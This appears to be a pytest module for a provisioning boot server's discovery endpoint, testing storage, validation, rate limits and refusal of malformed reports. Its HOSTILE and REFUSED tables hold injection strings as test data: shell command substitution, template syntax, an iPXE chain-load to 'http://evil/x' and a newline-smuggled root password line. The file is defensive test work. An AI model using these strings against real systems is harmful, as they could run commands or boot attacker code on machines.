"""POST /api/v1/discovery takes unknown machines' reports and nothing hostile.

Through the boot server's real Flask app: what an operator checks afterwards is
`provisioner discovered` (the store) and that what the inventory's nodes are
served is unchanged.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from provisioner.bootserver.app import create_app
from provisioner.bootserver.context import ServerContext
from provisioner.inventory.source import SiteSource
from provisioner.state.discovered import Discoveries
from provisioner.state.store import Store
from provisioner.state.tokens import DeployTokens
from tests.unit.discovery.disco import NEW_MAC, make_discovering, report

URL = "/api/v1/discovery"
CTL1_MAC = "52:54:00:00:02:0b"


@pytest.fixture
def server(site_dir: Path, tmp_path: Path) -> Iterator[tuple[FlaskClient, Store]]:
    make_discovering(site_dir)
    store = Store.open(tmp_path / "state")
    ctx = ServerContext(
        sites=SiteSource(site_dir / "site.yaml"),
        store=store,
        tokens=DeployTokens.from_state_dir(tmp_path / "state"),
        boot_files_dir=tmp_path / "boot",
    )
    try:
        yield create_app(ctx).test_client(), store
    finally:
        store.close()


def post(client: FlaskClient, body: object, source: str = "192.0.2.201") -> tuple[int, dict]:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    r = client.post(URL, data=data, content_type="application/json",
                    environ_base={"REMOTE_ADDR": source})  # fmt: skip
    return r.status_code, r.get_json(silent=True) or {}


def test_a_report_is_kept_and_the_machine_waits(server: tuple[FlaskClient, Store]) -> None:
    client, store = server
    assert post(client, report()) == (202, {"status": "recorded", "mac": NEW_MAC})
    [found] = Discoveries(store).all()
    assert (found.mac, found.source, found.reports) == (NEW_MAC, "192.0.2.201", 1)
    assert found.report["dmi"]["serial"] == "LAB-SN-0042"
    assert post(client, report())[0] == 202  # it reports again after a reboot
    assert Discoveries(store).get(NEW_MAC).reports == 2  # type: ignore[union-attr]
    r = client.get(f"/api/v1/discovery/{NEW_MAC}/next")
    assert r.get_json() == {"action": "wait"}


def test_the_discovery_boot_script_boots_the_discovery_os(
    server: tuple[FlaskClient, Store],
) -> None:
    client, _ = server
    text = client.get(f"/boot/{NEW_MAC}.ipxe").get_data(as_text=True)
    assert "kernel http://192.0.2.2:8080/files/discovery/vmlinuz" in text
    assert "provisioner.discovery=http://192.0.2.2:8080/api/v1/discovery" in text
    assert "BOOTIF=01-52-54-00-aa-00-01" in text


HOSTILE = {
    "template syntax": report(dmi={"vendor": "{{ 7*7 }}", "serial": "{% raw %}"}),
    "shell syntax": report(dmi={"product": "$(reboot); `id` | sh", "serial": "'\"&;"}),
    "ipxe syntax": report(dmi={"vendor": "#!ipxe chain http://evil/x", "serial": "${mac}"}),
    "rich markup": report(dmi={"vendor": "[red]x[/red]", "serial": "[link=http://x]y"}),
}
REFUSED = {
    "newline in a string": (report(dmi={"serial": "x\nrootpw --plaintext evil"}), 400,
                            "dmi.serial"),
    "string too long": (report(dmi={"vendor": "A" * 129}), 400, "dmi.vendor"),
    "unknown key": (report(extra="x"), 400, "extra"),
    "too many nics": (report(nics=[{"mac": NEW_MAC}] * 65), 400, "nics"),
    "boot mac not a nic": (report(boot_mac="52:54:00:aa:00:99"), 400, "boot_mac"),
    "broadcast mac": (report(boot_mac="ff:ff:ff:ff:ff:ff",
                             nics=[{"mac": "ff:ff:ff:ff:ff:ff"}]), 400, "boot_mac"),
    "number as string": (report(memory_mb="4096"), 400, "memory_mb"),
    "not an object": ([1, 2, 3], 400, "object"),
}  # fmt: skip


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_syntax_in_every_string_is_stored_as_inert_data(
    server: tuple[FlaskClient, Store], body: dict
) -> None:
    client, store = server
    before = client.get(f"/boot/{CTL1_MAC}.ipxe").get_data()
    assert post(client, body)[0] == 202
    kept = Discoveries(store).get(NEW_MAC).report["dmi"]  # type: ignore[union-attr]
    assert {k: v for k, v in kept.items() if v is not None} == body["dmi"]
    assert client.get(f"/boot/{CTL1_MAC}.ipxe").get_data() == before
    unknown = client.get(f"/boot/{NEW_MAC}.ipxe").get_data(as_text=True)
    for value in body["dmi"].values():
        assert value not in unknown  # the discovery script is made of site data only


@pytest.mark.parametrize(("body", "status", "field"), REFUSED.values(), ids=REFUSED.keys())
def test_malformed_reports_are_refused_naming_the_field(
    server: tuple[FlaskClient, Store], body: object, status: int, field: str
) -> None:
    client, store = server
    got, answer = post(client, body)
    assert got == status and field in answer["error"], answer
    assert Discoveries(store).all() == []


def test_oversized_deep_and_non_utf8_bodies_are_refused(server: tuple[FlaskClient, Store]) -> None:
    client, store = server
    big = report(dmi={"vendor": "x" * 100})
    big["pad"] = "y" * (70 * 1024)
    assert post(client, big)[0] == 413
    assert post(client, b"[" * 100_000 + b"]" * 100_000)[0] == 400
    assert post(client, b'{"boot_mac": "\xff\xfe"}')[0] == 400
    assert (
        post(client, json.dumps(report()).replace("QEMU", "caf\u00e9").encode("latin-1"))[0] == 400
    )
    assert Discoveries(store).all() == []


def test_a_report_naming_an_inventory_nodes_mac_changes_nothing(
    server: tuple[FlaskClient, Store],
) -> None:
    client, store = server
    nics = [*report()["nics"], {"mac": CTL1_MAC}]
    status, answer = post(client, report(nics=nics))
    assert status == 409 and CTL1_MAC in answer["error"]
    status, _ = post(client, report(boot_mac=CTL1_MAC, nics=[{"mac": CTL1_MAC}]))
    assert status == 409
    assert Discoveries(store).all() == []
    assert client.get(f"/api/v1/discovery/{CTL1_MAC}/next").get_json() == {"action": "poweroff"}


def test_each_source_gets_a_bounded_number_of_reports(server: tuple[FlaskClient, Store]) -> None:
    client, _ = server
    answers = [post(client, report())[0] for _ in range(15)]
    assert answers == [202] * 12 + [429] * 3  # discovery.max_reports_per_minute: 12
    assert post(client, report(), source="192.0.2.202")[0] == 202  # another machine


def test_discovery_off_refuses_reports(site_dir: Path, tmp_path: Path) -> None:
    store = Store.open(tmp_path / "state")
    tokens = DeployTokens.from_state_dir(tmp_path / "state")
    ctx = ServerContext(SiteSource(site_dir / "site.yaml"), store, tokens, tmp_path / "boot")
    try:
        status, answer = post(create_app(ctx).test_client(), report())
        assert status == 404 and "discovery is off" in answer["error"]
        assert Discoveries(store).all() == []
    finally:
        store.close()


def test_unmatched_machines_wait_or_power_off_as_the_site_says(
    site_dir: Path, tmp_path: Path
) -> None:
    from tests.unit.discovery.disco import DISCOVERY

    make_discovering(site_dir, {**DISCOVERY, "unmatched": "power_off"})
    store = Store.open(tmp_path / "state")
    tokens = DeployTokens.from_state_dir(tmp_path / "state")
    ctx = ServerContext(SiteSource(site_dir / "site.yaml"), store, tokens, tmp_path / "boot")
    try:
        client = create_app(ctx).test_client()
        other = "52:54:00:bb:00:09"
        assert post(client, report())[0] == 202  # its serial has a rule: it waits to be enrolled
        unmatched = report(
            boot_mac=other, nics=[{"mac": other}], dmi={"serial": "NOT-ON-THE-SHEET"}
        )
        assert post(client, unmatched)[0] == 202
        assert client.get(f"/api/v1/discovery/{NEW_MAC}/next").get_json() == {"action": "wait"}
        assert client.get(f"/api/v1/discovery/{other}/next").get_json() == {"action": "poweroff"}
        assert client.get("/api/v1/discovery/not-a-mac/next").status_code == 404
    finally:
        store.close()
